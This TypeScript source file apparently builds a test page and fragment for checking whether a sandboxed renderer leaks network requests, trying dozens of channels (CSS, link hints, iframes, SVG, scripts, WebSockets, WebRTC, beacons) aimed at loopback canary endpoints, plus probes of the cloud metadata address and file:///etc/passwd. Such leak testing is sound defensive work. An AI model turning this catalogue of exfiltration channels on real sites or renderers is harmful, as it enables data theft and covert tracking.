import type { Canary } from './canary.ts'

type Targets = Pick<Canary, 'origins' | 'stun'>

/** A document that tries every way out of a page we know of; each names itself in the address it asks for. */
export const attackPage = (targets: Targets): string =>
  `<!doctype html><html lang="en"><head><title>Attack</title>${head(targets)}</head><body background="${targets.origins.loopback}/body-background">${body(targets)}</body></html>`

/** The same as a fragment, for a place inside of a document that somebody else renders. */
export const attackFragment = (targets: Targets): string => `${head(targets)}${body(targets)}`

const head = ({ origins: { loopback: at } }: Targets): string => `
<link rel="stylesheet" href="${at}/stylesheet"><link rel="alternate stylesheet" title="x" href="${at}/alternate-stylesheet">
<link rel="icon" href="${at}/icon"><link rel="apple-touch-icon" href="${at}/touch-icon"><link rel="manifest" href="${at}/manifest">
<link rel="prefetch" href="${at}/prefetch"><link rel="prerender" href="${at}/prerender"><link rel="next" href="${at}/next">
<link rel="preload" as="image" href="${at}/preload-image" imagesrcset="${at}/preload-imagesrcset 1x">
<link rel="preload" as="font" crossorigin href="${at}/preload-font"><link rel="preload" as="style" href="${at}/preload-style">
<link rel="preload" as="script" href="${at}/preload-script"><link rel="modulepreload" href="${at}/modulepreload">
<link rel="preconnect" href="${at}"><link rel="dns-prefetch" href="//leak-by-dns.canary.example">
<link rel="compression-dictionary" href="${at}/dictionary">
<meta http-equiv="refresh" content="2;url=${at}/meta-refresh">
<meta http-equiv="content-security-policy" content="img-src 'none' http: data:; report-uri ${at}/csp-report">
<meta http-equiv="Link" content="<${at}/meta-link>; rel=preload; as=image">
<meta http-equiv="Reporting-Endpoints" content='default="${at}/reporting"'>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at}/speculation-prefetch"]}],"prerender":[{"source":"list","urls":["${at}/speculation-prerender"]}]}</script>
<style>
@import url("${at}/css-import");
@import "${at}/css-import-string" layer(x) screen, print;
@font-face { font-family: Leak; src: url("${at}/css-font") format("woff2") }
@font-face { font-family: Leak2; src: url("${at}/css-font-range"); unicode-range: U+4C }
body { font-family: Leak, Leak2; cursor: url("${at}/css-cursor"), auto }
#a { background: url("${at}/css-background") } #b { background: image-set("${at}/css-image-set" 1x) }
#c { mask-image: url("${at}/css-mask") } #d { border-image: url("${at}/css-border-image") 1 }
#e { shape-outside: url("${at}/css-shape"); float: left } #f { filter: url("${at}/css-filter#f") }
#g { clip-path: url("${at}/css-clip#f") } #h { background: cross-fade(url("${at}/css-cross-fade"), red, 50%) }
#i { --leak: url("${at}/css-variable"); background: var(--leak) }
#j::before { content: url("${at}/css-content") } li { list-style-image: url("${at}/css-list") }
#k { animation: leak 1s infinite } @keyframes leak { from { background: url("${at}/css-keyframes") } }
#l:has(> i) { background: url("${at}/css-has") } @media print { #m { background: url("${at}/css-print") } }
@page { background: url("${at}/css-page") }
</style>`

const body = (targets: Targets): string => `
${Array.from('abcdefghijklm', (id) => `<p id="${id}">Leak<i>L</i></p>`).join('')}<ul><li>one</li></ul>
${images(targets)}${frames(targets)}${pictures(targets)}${forms(targets)}
<script>${script(targets)}</script><svg><script>${fetching(targets, 'svg-script')}</script></svg>
<img src="x" onerror="${fetching(targets, 'onerror')}"><details open ontoggle="${fetching(targets, 'ontoggle')}"></details>
<script src="${targets.origins.loopback}/script"></script><script type="module" src="${targets.origins.loopback}/module"></script>`

const fetching = ({ origins: { loopback: at } }: Targets, channel: string): string =>
  `fetch('${at}/${channel}',{mode:'no-cors'})`

const images = ({ origins: { loopback: at, others } }: Targets): string => `
<img src="${at}/img"><img srcset="${at}/srcset 1x"><picture><source srcset="${at}/source"><img></picture>
<img src="${at}/lazy" loading="lazy"><input type="image" src="${at}/input"><table background="${at}/table-background"><tr><td>x</table>
${others.map((origin, index) => `<img src="${origin}/other-${index}">`).join('')}
<img src="http://169.254.169.254/latest/meta-data/"><img src="http://leak-by-name.canary.example/">
<img src="//127.1:${at.split(':').at(-1)}/short"><img src="https${at.slice(4)}/tls"><img src="ftp${at.slice(4)}/ftp">
<img src="file:///etc/passwd"><img src="chrome://version"><img src="view-source:${at}/view-source">`

const frames = ({ origins: { loopback: at } }: Targets): string => `
<iframe src="${at}/iframe"></iframe><iframe srcdoc="<img src='${at}/srcdoc'><meta http-equiv=refresh content='0;url=${at}/srcdoc-refresh'>"></iframe>
<iframe src="data:text/html,<img src='${at}/data-frame'>"></iframe><iframe src="javascript:location='${at}/javascript-frame'"></iframe>
<iframe src="file:///etc/passwd"></iframe><iframe src="view-source:${at}/view-source-frame"></iframe><iframe src="chrome://gpu"></iframe>
<object data="${at}/object"></object><embed src="${at}/embed"><object type="image/svg+xml" data="${at}/object-svg"></object>
<fencedframe src="${at}/fencedframe"></fencedframe><portal src="${at}/portal"></portal>`

const pictures = ({ origins: { loopback: at } }: Targets): string => `
<video src="${at}/video" poster="${at}/poster" autoplay muted><track default src="${at}/track"></video><audio src="${at}/audio" autoplay></audio>
<video preload="auto"><source src="${at}/video-source"></video>
<svg width="9" height="9"><image href="${at}/svg-image"/><image xlink:href="${at}/svg-xlink"/><use href="${at}/svg-use#a"/>
<filter id="z"><feImage href="${at}/svg-fe-image"/></filter><rect width="9" height="9" filter="url(#z)"/>
<a href="${at}/svg-a"><text>t</text></a><style>@import "${at}/svg-style";</style>
<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${at}/svg-foreign"/></foreignObject></svg>
<math href="${at}/math"><mi>x</mi></math>
<a href="${at}/link" ping="${at}/ping" autofocus>link</a><a href="javascript:fetch('${at}/javascript-link')">link</a>`

const forms = ({ origins: { loopback: at } }: Targets): string => `
<iframe name="sink"></iframe><form id="form" target="sink" action="${at}/form"><button formaction="${at}/formaction">go</button></form>
<base href="${at}/base/"><img src="relative-to-base">`

/** What a script would do, should one ever run. */
const script = ({ origins: { loopback: at }, stun }: Targets): string => {
  const socket = at.replace('http', 'ws')
  const port = at.split(':').at(-1)
  const worker = `fetch('${at}/worker-fetch',{mode:'no-cors'});importScripts('${at}/import-scripts')`
  const ways = [
    `document.documentElement.dataset.ran='yes'`,
    `fetch('${at}/fetch',{mode:'no-cors'})`,
    `fetch('${at}/fetch-keepalive',{mode:'no-cors',keepalive:true,method:'POST',body:'x'})`,
    `let x=new XMLHttpRequest();x.open('GET','${at}/xhr');x.send()`,
    `navigator.sendBeacon('${at}/beacon','x')`,
    `fetchLater('${at}/fetch-later',{activateAfter:0})`,
    `new WebSocket('${socket}/websocket')`,
    `new EventSource('${at}/event-source')`,
    `new WebTransport('https://127.0.0.1:${port}/webtransport').ready.catch(()=>{})`,
    `new Image().src='${at}/new-image'`,
    `new Audio('${at}/new-audio').play().catch(()=>{})`,
    `new FontFace('Made','url(${at}/font-face)').load().catch(()=>{})`,
    `import('${at}/dynamic-import').catch(()=>{})`,
    `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(worker)}])))`,
    `new SharedWorker('data:text/javascript,fetch("${at}/shared-worker",{mode:"no-cors"})')`,
    `CSS.paintWorklet.addModule('${at}/paint-worklet').catch(()=>{})`,
    `new OfflineAudioContext(1,1,8000).audioWorklet.addModule('${at}/audio-worklet').catch(()=>{})`,
    `open('${at}/window-open')`,
    `open('about:blank').location='${at}/opened-blank'`,
    `document.getElementById('form').submit()`,
    `let f=document.createElement('iframe');f.src='${at}/made-frame';document.body.append(f)`,
    `let l=document.createElement('link');l.rel='prefetch';l.href='${at}/made-prefetch';document.head.append(l)`,
    `let d=document.createElement('link');d.rel='stylesheet';d.href='${at}/made-style';document.head.append(d)`,
    `for(const url of ['stun:${stun}','turn:${stun}?transport=udp','turn:127.0.0.1:${port}?transport=tcp']){
      const p=new RTCPeerConnection({iceServers:[{urls:url,username:'u',credential:'c'}]});
      p.createDataChannel('x');p.createOffer().then((o)=>p.setLocalDescription(o)).catch(()=>{})}`,
    `setTimeout(()=>{document.querySelector('[ping]').click()},300)`,
  ]
  return ways.map((way) => `try{${way}}catch{}`).join('\n')
}
